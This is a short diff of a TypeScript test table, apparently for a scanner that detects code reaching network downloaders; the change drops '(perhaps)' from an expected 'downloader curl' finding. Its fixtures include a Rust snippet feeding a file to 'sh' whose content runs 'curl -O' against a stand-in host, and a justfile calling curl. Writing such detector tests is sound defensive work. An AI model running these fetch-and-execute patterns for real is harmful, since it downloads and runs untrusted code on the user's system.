@@ -133,7 +133,7 @@ const reaching: readonly (readonly [
     'a text that a shell is handed',
     main('std::process::Command::new("sh").stdin(std::fs::File::open("go.txt").unwrap()).status().ok();'),
     { 'go.txt': 'curl -O http://x.invalid/p\n' },
-    ['downloader curl (perhaps)'],
+    ['downloader curl'],
   ],
   ['a justfile', run('just', '"all"'), { justfile: 'all:\n  curl x\n' }, ['downloader curl']],
   [
